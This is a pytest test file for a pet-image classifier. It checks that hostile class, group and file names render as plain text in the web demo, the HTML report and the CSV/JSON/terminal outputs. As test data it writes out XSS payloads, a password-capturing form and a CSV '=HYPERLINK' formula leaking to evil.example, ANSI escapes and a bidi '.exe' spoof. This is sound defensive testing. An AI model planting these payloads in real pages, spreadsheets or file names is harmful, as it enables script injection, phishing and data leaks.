"""Hostile names are text on every surface (BAD_INPUTS 35): a model whose classes, groups, display names,
title and file names hold HTML, Markdown, rich markup, mathtext, ANSI escapes, formulas, bidi overrides,
newlines or 500 characters, run through the demo in Chromium, `/classify`, the report in Chromium, predict's
table, CSV and JSON, `petclf data check` and the progress bar; plus `petclf.text` itself.

The model is built, not trained (random weights: what it predicts does not matter, only how names are shown);
the data is a csv layout, so names may hold `/` and newlines that no folder name can.
"""

from __future__ import annotations

import csv
import html
import io
import json
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from helpers import free_port

from petclf.text import FORMULA_START, MARKUP_CHARS, as_cell, as_markdown, as_terminal, shown

EVIL = "evil.example"  # every remote URL below points here; the browser must never ask for it
HOSTILE = {  # id: class name
    "script": "<script>alert(1)</script>",
    "js_link": '<a href="javascript:alert(3)">js link</a>',
    "md_link": "[Log in again](http://evil.example/phish)",
    "md_image": "![pixel](http://evil.example/md.png)",
    "img": '<img src="http://evil.example/pixel.png" onerror="alert(2)">',
    "form": '<form action="http://evil.example/steal"><input name="password" type="password"></form>',
    "iframe": '<iframe src="http://evil.example/frame"></iframe>',
    "template": "{{ 7*7 }}",
    "rtl": "abc\u202egpj.exe",
    "long": "L" + "o" * 253 + "ng",  # a bundle's longest (256); the title and a path have 500 characters
    "newline": "line one\n# line two",
    "rich_close": "[/bold]after",
    "rich_slash": "x[/]y",
    "math_foo": "$\\foo$",
    "math_sub": "$_$",
    "math_hash": "C# or $#$",
    "ansi": "\x1b[31mred\x1b[0m",
    "hyperlink": '=HYPERLINK("http://evil.example/?q=leak","click me")',
    "at_sum": "@SUM(1+1)",
    "formula": "=1+1",
    "www": "www.evil.example",
}
FILES = {  # file names (under images/) that break commands
    "rich_path": "x[/]y.png",
    "edited": "photo [edited].png",
    "bold_file": "[/bold].png",
    "ansi_file": "\x1b[31mred.png",
    "formula_file": "=1+1.png",
    "html_file": "<img src=x onerror=alert(4)>.png",
    "long_path": "d" * 250 + "/" + "f" * 246 + ".png",
}
UNLABELLED = "<img src=x onerror=alert(7)> [bold] \x1b[31m.png"  # an image the labels file leaves out
DISPLAY = "[/bold]shown name"  # a display name set through the manifest, as a downloaded bundle would
GROUP_NAME = "<b>kind</b> [/bold] $x$"
GROUPS = ("<img src=http://evil.example/g.png>", "[g](javascript:alert(5))")
TITLE = "<img src=http://evil.example/t.png> [title](http://evil.example/t) $$x$$ " + "T" * 430
PER_CLASS = 3  # the third image of each class is validation


# ---------------------------------------------------------------------------------------------------- the helpers


@pytest.mark.parametrize("name", HOSTILE.values(), ids=HOSTILE.keys())
def test_shown_markdown_and_cells_keep_the_text_and_drop_the_syntax(name):
    visible = shown(name)
    assert visible.isprintable() and "\x1b" not in visible and "\u202e" not in visible
    md = as_markdown(name)
    assert not set(md) & (MARKUP_CHARS - {"&", "#"}) and html.unescape(md) == visible  # text, and only text
    cell = as_cell(name)
    assert (cell == "'" + name) if name.startswith(FORMULA_START) else (cell == name)
    assert as_terminal(name).plain == visible


def test_as_cell_follows_owasp_and_leaves_other_text_alone():
    for bad in ("=1+1", "+1", "-1+2", "@SUM(1)", "\tx", "\rx"):
        assert as_cell(bad) == "'" + bad
    for ok in ("", "cat", "'quoted", " =1", "1-1"):
        assert as_cell(ok) == ok


# ---------------------------------------------------------------------------------------------------- the run


def _photo(path: Path, k: int) -> None:
    """A small distinct image."""
    import numpy as np
    from PIL import Image

    path.parent.mkdir(parents=True, exist_ok=True)
    Image.fromarray(np.random.default_rng(k).integers(0, 255, (64, 64, 3), dtype=np.uint8)).save(path)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> dict:
    """Data (csv layout, hostile labels and file names), a groups file, and a model folder over it (random
    weights, config, data report, an example photo with a hostile name), made once for the module."""
    from petclf.bundle import make_manifest, write_bundle
    from petclf.config import TrainConfig, save_config
    from petclf.data import load_data
    from petclf.layouts import read_groups
    from petclf.model import FASTAI_HEAD, build_model

    root = tmp_path_factory.mktemp("hostile")
    data, run = root / "data", root / "run"
    names = list(HOSTILE.values())
    files = [f"images/{c:02d}-{k}.png" for c in range(len(names)) for k in range(PER_CLASS)]
    files[: len(FILES)] = [f"images/{f}" for f in FILES.values()]  # the first classes' photos: hostile names
    rows = [(f, names[i // PER_CLASS], "valid" if i % PER_CLASS == PER_CLASS - 1 else "train")
            for i, f in enumerate(files)]
    for i, (f, _, _) in enumerate(rows):
        _photo(data / f, i)
    _photo(data / "images" / UNLABELLED, 98)
    labels = data / "labels.csv"
    with labels.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([("file", "label", "split"), *rows])
    groups_csv = root / "groups.csv"
    with groups_csv.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([("label", GROUP_NAME), *[(n, GROUPS[i % 2]) for i, n in enumerate(names)]])
    pets = load_data(data, layout="csv", labels=labels, split="random")
    group_name, groups = read_groups(groups_csv, pets.vocab)
    metrics = {"error_rate": 0.5, "<img src=http://evil.example/m.png>": "[m](http://evil.example/m)"}
    manifest = make_manifest("resnet18", FASTAI_HEAD, pets.vocab, 64, 80, [0.485, 0.456, 0.406],
                             [0.229, 0.224, 0.225], groups=groups, group_name=group_name, metrics=metrics)
    next(c for c in manifest.classes if c["name"] == HOSTILE["www"])["display"] = DISPLAY
    write_bundle(build_model("resnet18", len(pets.vocab)), run, manifest)
    save_config(TrainConfig(data=str(data), layout="csv", labels=str(labels), groups=str(groups_csv),
                            arch="resnet18", size=64, presize=80), run / "config.yaml")
    pets.report.save(run)
    _photo(run / "examples" / "<img src=x onerror=alert(6)>.png", 99)
    return {"data": data, "run": run, "labels": labels, "groups": groups_csv, "vocab": pets.vocab,
            "files": [data / f for f, _, _ in rows] + [data / "images" / UNLABELLED]}


# ---------------------------------------------------------------------------------------------------- the browser


def page_guard(page) -> dict:
    """Record what a page must never do: ask another host for anything, or open a dialog (alert)."""
    seen: dict[str, list] = {"foreign": [], "dialogs": []}

    def on_request(req) -> None:
        url = urlsplit(req.url)
        if url.scheme not in ("data", "blob", "file", "about") and url.hostname != "127.0.0.1":
            seen["foreign"].append(req.url)

    page.on("request", on_request)
    page.on("dialog", lambda d: (seen["dialogs"].append(d.message), d.dismiss()))
    return seen


# elements a name must never become: the hostile names' own, by what they are and where they point
FOREIGN_JS = """() => {
  const bad = [];
  for (const a of document.querySelectorAll('a[href]')) {
    const h = a.getAttribute('href');
    if (/^\\s*javascript:/i.test(h) || h.includes('evil.example')) bad.push(a.outerHTML);
  }
  const tags = 'img, iframe, form, input[type=password], input[name=password]';
  for (const el of document.querySelectorAll(tags)) {
    const src = el.getAttribute('src') || el.getAttribute('action') || '';
    if (el.tagName !== 'IMG' || src.includes('evil.example') || src === 'x') bad.push(el.outerHTML);
  }
  for (const s of document.querySelectorAll('script')) {  // Gradio's config holds the names as JSON: inert
    const t = s.textContent;
    if (t.includes('alert(') && !t.trimStart().startsWith('window.gradio_config =')) bad.push(s.outerHTML);
  }
  for (const el of document.querySelectorAll('[onerror], [onload], [onclick]')) bad.push(el.outerHTML);
  return bad;
}"""


@pytest.mark.slow
@pytest.mark.browser
def test_demo_page_shows_hostile_names_as_text(browser, hostile):
    from petclf.app import build_demo, example_files
    from petclf.predict import load_model
    from petclf.serve import launch_kwargs

    predictor = load_model(hostile["run"])
    demo = build_demo(predictor, title=TITLE, examples=example_files(predictor.manifest, hostile["run"]))
    demo.launch(**launch_kwargs(port=free_port()), prevent_thread_lock=True, quiet=True)
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    page.set_default_timeout(30_000)
    seen = page_guard(page)
    try:
        page.goto(demo.local_url)
        page.get_by_text("Model card").first.click()
        page.locator("input[type=file]").first.set_input_files(str(hostile["files"][0]))
        page.locator("#verdict").get_by_text("%").first.wait_for(state="visible")  # the answer in words
        page.locator("[data-testid='label-output-value']").first.wait_for(state="visible")
        text = page.locator("body").inner_text()
        bad = page.evaluate(FOREIGN_JS)
        title = page.title()
    finally:
        page.close()
        demo.close()
    assert bad == [] and seen == {"foreign": [], "dialogs": []}, (bad, seen)
    for name in (TITLE, HOSTILE["md_link"], HOSTILE["form"], HOSTILE["js_link"], HOSTILE["template"],
                 GROUPS[1]):
        assert shown(name) in text, name  # the heading, the intro and the model card show each as written
    assert shown(HOSTILE["newline"]) in text and shown(HOSTILE["ansi"]) in text
    assert TITLE in title


@pytest.mark.slow
def test_classify_returns_the_true_names(hostile):
    from gradio_client import Client, handle_file

    from petclf.app import build_demo
    from petclf.predict import load_model
    from petclf.serve import launch_kwargs

    predictor = load_model(hostile["run"])
    demo = build_demo(predictor)
    demo.launch(**launch_kwargs(port=free_port()), prevent_thread_lock=True, quiet=True)
    try:
        breeds, species, answer = Client(demo.local_url, verbose=False).predict(
            handle_file(str(hostile["files"][3])), api_name="/classify")
    finally:
        demo.close()
    display = predictor.display
    assert answer["class_id"] in hostile["vocab"] and answer["class"] == display[answer["class_id"]]
    assert {c["label"] for c in breeds["confidences"]} <= set(display.values())
    assert species["label"] in (*GROUPS, "not sure")
    assert {c["label"] for c in species["confidences"]} == set(GROUPS)
    assert display[HOSTILE["www"]] == DISPLAY


@pytest.mark.slow
@pytest.mark.browser
def test_report_page_shows_hostile_names_as_text(browser, hostile, tmp_path):
    from petclf.report import write_report

    paths = write_report(hostile["run"], out=tmp_path / "report", workers=0)  # mathtext names once aborted it
    report = json.loads(paths["json"].read_text())
    assert sorted(report["confusion"]["classes"]) == sorted(hostile["vocab"])  # true names in the JSON
    page = browser.new_page(viewport={"width": 1300, "height": 900})
    seen = page_guard(page)
    try:
        page.goto(paths["html"].resolve().as_uri(), wait_until="load")
        bad = page.evaluate(FOREIGN_JS)
        scripts = page.evaluate("document.querySelectorAll('script, iframe, form, object, embed').length")
        links = page.evaluate("Array.from(document.querySelectorAll('a[href]'), a => a.getAttribute('href'))")
        text = page.locator("body").inner_text()
    finally:
        page.close()
    assert bad == [] and scripts == 0 and seen == {"foreign": [], "dialogs": []}, (bad, seen)
    assert links and all(h.startswith("#") for h in links)  # the report's own table of contents, nothing else
    for name in (HOSTILE["script"], HOSTILE["img"], HOSTILE["md_link"], GROUPS[0], UNLABELLED):
        assert shown(name) in text, name
    assert "\x1b" not in text and shown(HOSTILE["ansi"]) in text


# ---------------------------------------------------------------------------------------------------- the terminal


@pytest.fixture(scope="module")
def predicted(hostile, tmp_path_factory) -> dict:
    """`petclf predict` over the data's images in the three formats, every class in each row."""
    from typer.testing import CliRunner

    from petclf.cli import app

    out = tmp_path_factory.mktemp("predicted")
    runner, k = CliRunner(), len(hostile["vocab"])
    results = {}
    for fmt in ("table", "csv", "json"):
        r = runner.invoke(app, ["predict", str(hostile["data"] / "images"), "--model", str(hostile["run"]),
                                "--topk", str(k), "--format", fmt, "--out", str(out / f"p.{fmt}")])
        assert r.exit_code == 0, r.output
        results[fmt] = (out / f"p.{fmt}").read_text(encoding="utf-8", errors="surrogateescape")
    return results


def test_predict_table_shows_every_name_as_written(predicted, hostile):
    from petclf.predict import load_model, to_table

    assert "\x1b" not in predicted["table"] and "\u202e" not in predicted["table"]
    predictor = load_model(hostile["run"])
    rows = list(predictor.predict_paths([str(p) for p in hostile["files"]]))
    table = to_table(rows, len(hostile["vocab"]), predictor.display, width=100_000)  # one line per row
    for f in (*FILES.values(), UNLABELLED):  # x[/]y once crashed the table; photo [edited] lost its brackets
        assert shown(f) in table, f
    for name in (DISPLAY, *HOSTILE.values()):
        assert shown(name if name != HOSTILE["www"] else DISPLAY) in table, name
    assert "\x1b" not in table and "\u202e" not in table


def test_predict_json_keeps_the_true_values(predicted, hostile):
    rows = json.loads(predicted["json"])
    assert {Path(r["file"]).name for r in rows} == {p.name for p in hostile["files"]}
    assert all(r["error"] is None for r in rows)
    assert {t["class_id"] for t in rows[0]["top"]} == set(hostile["vocab"])  # names exactly, ANSI and all
    assert {t["class"] for t in rows[0]["top"]} == set(hostile["vocab"]) - {HOSTILE["www"]} | {DISPLAY}


def test_predict_csv_neutralises_formulas_and_keeps_numbers(predicted, hostile):
    rows = list(csv.DictReader(io.StringIO(predicted["csv"])))
    assert len(rows) == len(hostile["files"])
    text_cols = [c for c in rows[0] if not c.startswith("prob_") and not c.endswith(("_prob", "_score"))]
    for r in rows:
        for c in text_cols:
            assert not r[c].startswith(FORMULA_START), (c, r[c])  # no cell a spreadsheet would run
        assert all(0 <= float(r[c]) <= 1 for c in r if c.startswith("prob_"))
    k = len(hostile["vocab"])
    assert {rows[0][f"class_id_{i}"] for i in range(1, k + 1)} == {as_cell(c) for c in hostile["vocab"]}
    names = {rows[0][f"class_{i}"] for i in range(1, k + 1)}
    assert "'=HYPERLINK(\"http://evil.example/?q=leak\",\"click me\")" in names and "'@SUM(1+1)" in names
    assert "'=1+1" in names and HOSTILE["newline"] in names  # the rest as it is (csv quotes the newline)


def test_predict_csv_neutralises_a_file_cell_too(hostile, cli, monkeypatch):
    monkeypatch.chdir(hostile["data"] / "images")
    r = cli("predict", FILES["formula_file"], FILES["rich_path"], "--model", hostile["run"], "-f", "csv")
    assert r.exit_code == 0, r.output
    assert [row["file"] for row in csv.DictReader(io.StringIO(r.stdout))] == ["'=1+1.png", "x[/]y.png"]


def test_data_check_shows_hostile_names_as_text(hostile, cli):
    r = cli("data", "check", "--data", hostile["data"], "--labels", hostile["labels"],
            "--groups", hostile["groups"])
    assert r.exit_code == 0, r.output
    assert "\x1b" not in r.output and "\u202e" not in r.output
    flat = r.output.replace("\n", "")
    for name in ("[/bold]after", "$_$", "\\x1b[31mred", "[g](javascript:alert(5))", "\\u202egpj.exe",
                 shown(UNLABELLED)):
        assert name in flat, name


def test_progress_bar_shows_a_path_with_markup_as_it_is(capsys):
    from petclf.progress import rich_bar

    with rich_bar(transient=False) as bar:  # `report --split FILE` puts the file's path in the description
        bar.add_task(f"predicting {FILES['rich_path']}", total=2, info=HOSTILE["rich_close"])
    err = capsys.readouterr().err
    assert f"predicting {FILES['rich_path']}" in err and HOSTILE["rich_close"] in err
